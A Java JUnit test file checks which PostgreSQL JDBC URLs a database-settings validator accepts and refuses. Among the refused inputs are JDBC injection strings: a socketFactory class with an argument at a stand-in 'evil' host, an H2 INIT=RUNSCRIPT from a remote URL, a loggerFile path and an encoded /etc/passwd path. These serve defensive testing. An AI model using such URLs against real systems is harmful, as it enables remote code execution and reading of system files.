package io.entrepot.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Which URLs of a database are taken, and what else is said beside them. */
class DatabaseSettingsTest {
  private static final String URL = "jdbc:postgresql://db/entrepot";

  @ParameterizedTest
  @ValueSource(
      strings = {
        URL,
        "jdbc:postgresql://db:5432/entrepot",
        "jdbc:postgresql://10.0.0.1,10.0.0.2:6000/my_db-1?targetServerType=any",
        "jdbc:postgresql://[2001:db8::1]:5432/e?sslmode=verify-ca&sslrootcert=/etc/ssl/db.pem"
      })
  void urlIsTakenAsItIs(String url) {
    assertThat(DatabaseUrlSyntax.syntax().parser().apply(url)).isEqualTo(url);
  }

  /** Parameters of the driver load classes and write files (S21). */
  @ParameterizedTest
  @ValueSource(
      strings = {
        URL + "?socketFactory=org.springframework.X&socketFactoryArg=http://evil",
        URL + "?sslmode=require&loggerFile=/tmp/x",
        URL + "?SSLMODE=require",
        URL + "?sslmode=require;sslfactory=x",
        URL + "?sslmode=sometimes",
        URL + "?sslmode",
        URL + "?",
        URL + "?sslmode=require&sslmode=disable",
        URL + "?targetServerType=secondary",
        URL + "?sslrootcert=%2Fetc%2Fpasswd",
        URL + "?user=me&password=x",
        "jdbc:postgresql://me:secret@db/entrepot",
        "jdbc:postgresql:entrepot",
        "jdbc:postgresql:///entrepot",
        "jdbc:postgresql://db:0/entrepot",
        "jdbc:postgresql://db:70000/entrepot",
        "jdbc:postgresql://db",
        "jdbc:postgresql://db/a/b",
        "jdbc:postgresql://db/a%62",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "jdbc:mysql://db/entrepot"
      })
  void anyOtherUrlIsRefusedWithoutBeingRepeated(String url) {
    GivenSources sources = new GivenSources().property("entrepot.database.url", url);

    assertThatThrownBy(sources::read)
        .isInstanceOf(ConfigurationException.class)
        .hasMessageContaining("database.url")
        .hasMessageNotContaining("secret@");
  }

  @Test
  void oneDatabaseIsNamedAndOnePassword() {
    assertThatThrownBy(
            new GivenSources()
                    .property("entrepot.database.url", URL)
                    .property("entrepot.datasource", "jdbc/x")
                    .property("entrepot.database.password", "a")
                    .property("entrepot.database.passwordfile", "pom.xml")
                ::read)
        .hasMessageContaining("give only one of it and datasource")
        .hasMessageContaining("give only one of it and database.password");
  }

  @Test
  void passwordNeedsAUrl() {
    assertThatThrownBy(new GivenSources().property("entrepot.database.password", "a")::read)
        .hasMessageContaining("database.url: it is missing");
  }
}
